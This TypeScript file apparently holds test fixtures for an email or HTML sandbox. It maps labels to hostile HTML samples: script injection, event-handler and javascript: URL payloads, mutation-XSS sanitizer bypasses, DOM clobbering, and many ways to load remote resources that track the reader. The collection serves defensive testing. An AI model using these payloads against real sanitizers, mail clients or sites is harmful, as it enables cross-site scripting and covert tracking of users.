/**
 * Mail that tries to run, to phone home or to get out of its frame. `OUT` stands for the origin of a server that
 * counts every request; `RUN` for script that leaves a mark on the page around the frame.
 */
export const hostile: Readonly<Record<string, string>> = {
  script: '<script>RUN</script>',
  'script from outside': '<script src="OUT/script.js"></script>',
  'image error': '<img src="data:image/png;base64,AA" onerror="RUN">',
  'svg onload': '<svg onload="RUN"></svg>',
  'svg animate':
    '<svg><a xlink:href="javascript:RUN"><animate attributeName="href" values="javascript:RUN"/><text y="20">x</text></a></svg>',
  'svg use':
    '<svg><use href="OUT/use.svg#x"></use><image href="OUT/svg-image.png"></image><feImage href="OUT/fe.png"/></svg>',
  'nested frame':
    '<iframe src="OUT/frame.html"></iframe><iframe srcdoc="<script>parent.RUN</script><img src=OUT/srcdoc.png>"></iframe>',
  'frame with javascript address':
    '<iframe src="javascript:RUN"></iframe><frameset><frame src="OUT/f.html"></frameset>',
  form: '<form action="OUT/form" method="post"><input name="a" autofocus onfocus="RUN"><button id="go">x</button></form>',
  'input image': '<input type="image" src="OUT/input.png">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=OUT/refresh">',
  'meta policy':
    '<meta http-equiv="Content-Security-Policy" content="img-src *"><img src="OUT/meta-csp.png">',
  base: '<base href="OUT/"><img src="base.png"><a href="x">x</a>',
  'style sheet link':
    '<link rel="stylesheet" href="OUT/link.css"><link rel="prefetch" href="OUT/prefetch"><link rel="preload" as="image" href="OUT/preload.png">',
  'dns and connections ahead':
    '<link rel="dns-prefetch" href="OUT"><link rel="preconnect" href="OUT"><link rel="icon" href="OUT/icon.png"><link rel="modulepreload" href="OUT/m.js">',
  import: '<style>@import "OUT/import.css"; @import url(OUT/import2.css);</style>',
  'escaped import': '<style>@\\69mport "OUT/escaped.css"; body{background:u\\72l(OUT/escaped.png)}</style>',
  'css address':
    '<style>body{background-image:url(OUT/css.png);cursor:url(OUT/cursor.cur),auto;list-style:url(OUT/list.png)} div{content:url(OUT/content.png)}</style><div>x</div>',
  'css variable': '<style>body{--a:url(OUT/var.png);background:var(--a)}</style>',
  'css image-set':
    '<div style="background-image:image-set(\'OUT/set.png\' 1x);width:9px;height:9px">x</div><div style="background:-webkit-image-set(url(OUT/wset.png) 1x)">x</div>',
  'css font': '<style>@font-face{font-family:f;src:url(OUT/font.woff)} body{font-family:f}</style>x',
  'css mask and border':
    '<p style="mask-image:url(OUT/mask.png);border-image:url(OUT/border.png) 9;filter:url(OUT/f.svg#a);clip-path:url(OUT/c.svg#a);shape-outside:url(OUT/s.png)">x</p>',
  'css nested':
    '<style>@media all{@supports (color:red){p{&:first-child{background:url(OUT/nested.png)}}}} @layer a{p{background:url(OUT/layer.png)}}</style><p>x</p>',
  'css attr and src':
    '<p data-u="OUT/attr.png" style="background:src(\'OUT/src.png\');background:attr(data-u type(<url>))">x</p>',
  'background attribute':
    '<body background="OUT/body.png"><table background="OUT/table.png"><tr><td background="OUT/td.png">x</td></tr></table>',
  'remote images':
    '<img src="OUT/img.png"><img srcset="OUT/srcset.png 1x, OUT/srcset2.png 2x"><picture><source srcset="OUT/source.png"><img src="OUT/picture.png"></picture><img src="//OUTHOST/relative.png">',
  media:
    '<video poster="OUT/poster.png" src="OUT/video.mp4" autoplay></video><audio src="OUT/audio.mp3" autoplay></audio><video><track default src="OUT/track.vtt"></video>',
  'object and embed':
    '<object data="OUT/object.html"></object><embed src="OUT/embed.html"><applet code="OUT/a.class"></applet>',
  'javascript link':
    '<a id="go" href="javascript:RUN">x</a><a href="  java\tscript:RUN">x</a><a href="vbscript:RUN">y</a><a href="data:text/html,<script>RUN</script>">z</a>',
  'link that navigates': '<a id="go" href="OUT/link">x</a>',
  ping: '<a id="go" href="#x" ping="OUT/ping">x</a>',
  attribution:
    '<img src="data:image/png;base64,AA" attributionsrc="OUT/attribution"><a id="go" href="#x" attributionsrc="OUT/attribution2">x</a>',
  'events without a click':
    '<details open ontoggle="RUN"><summary>x</summary></details><body onload="RUN" onpageshow="RUN"><marquee onstart="RUN">x</marquee><style onload="RUN"></style><div onanimationstart="RUN" style="animation:a 1s">x</div>',
  template:
    '<template><img src=x onerror="RUN"></template><template shadowrootmode="open"><script>RUN</script><img src="OUT/shadow.png"></template>',
  'noscript mutation': '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
  'math and style mutation':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
  'form nesting mutation': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>',
  'svg title mutation': '<svg></p><style><a id="</style><img src=1 onerror=RUN>">',
  'cdata mutation':
    '<svg><![CDATA[><img src=1 onerror=RUN>]]></svg><math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style></annotation-xml></math>',
  'textarea and title mutation':
    '<textarea></textarea><img src=x onerror=RUN><title></title><img src=x onerror=RUN><xmp><p title="</xmp><img src=x onerror=RUN>">',
  'style that closes early':
    '<style><![CDATA[</style><img src=x onerror=RUN>]]></style><style>a{content:"</sty\\6ce><img src=x onerror=RUN>"}</style>',
  'comment mutation':
    '<!--><img src=x onerror=RUN>--><!--[if true]><script>RUN</script><![endif]--><?xml version="1.0"?><!-- --!><img src=x onerror=RUN> -->',
  'deep nesting': `${'<div>'.repeat(600)}<img src=x onerror="RUN">`,
  clobbering:
    '<form id="body"><input name="documentElement"><img name="head"></form><img name="querySelector"><a id="contentDocument"><a id="location" href="OUT/clobber">',
  'xml data island':
    '<xml id="x"><a><b>&lt;script>RUN&lt;/script></b></a></xml><span datasrc="#x"></span><?import namespace="t" implementation="OUT/htc">',
  'portals and fences': '<fencedframe src="OUT/fenced"></fencedframe><portal src="OUT/portal"></portal>',
  'speculation rules': '<script type="speculationrules">{"prefetch":[{"urls":["OUT/speculation"]}]}</script>',
  manifest: '<html manifest="OUT/manifest"><head profile="OUT/profile"></head><body>x</body></html>',
};
